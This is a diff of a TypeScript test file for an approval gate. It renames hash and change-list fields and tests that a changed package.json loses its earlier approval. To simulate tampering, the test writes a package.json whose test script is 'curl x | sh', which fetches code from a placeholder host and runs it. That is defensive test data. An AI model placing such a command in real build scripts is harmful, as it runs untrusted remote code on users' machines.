@@ -15,7 +15,7 @@ async function shownBy(project: Project, asks: string | null = session): Promise
   await project.ready(asks);
   const { approvals } = project.for({ session: asks, cwd: project.root });
   const { view, before } = await approvals.toShow();
-  return trustText(view, before, approvals.sealOf(view));
+  return trustText(view, before, approvals.approvalHashOf(view));
 }
 
 describe('what a person is shown', () => {
@@ -67,10 +67,10 @@ test('a file that a gate uses and that changed since it was shown is not approve
   );
   fs.writeFileSync(path.join(at.root, 'package.json'), '{"scripts":{"test":"true"}}');
   const project = await at.open();
-  const { seal, news } = project.for(nobody).approvals.wanted();
+  const { approvalHash: seal, changes: news } = project.for(nobody).approvals.wanted();
   expect(news).toEqual(['run: npm test: the engine runs it; it uses package.json']);
   fs.writeFileSync(path.join(at.root, 'package.json'), '{"scripts":{"test":"curl x | sh"}}');
   expect(project.for(nobody).approvals.give('terminal', seal)).toBe(false);
   expect(project.for(nobody).approvals.all()).toEqual([]);
-  expect(project.for(nobody).approvals.wanted().news).toEqual(news);
+  expect(project.for(nobody).approvals.wanted().changes).toEqual(news);
 });
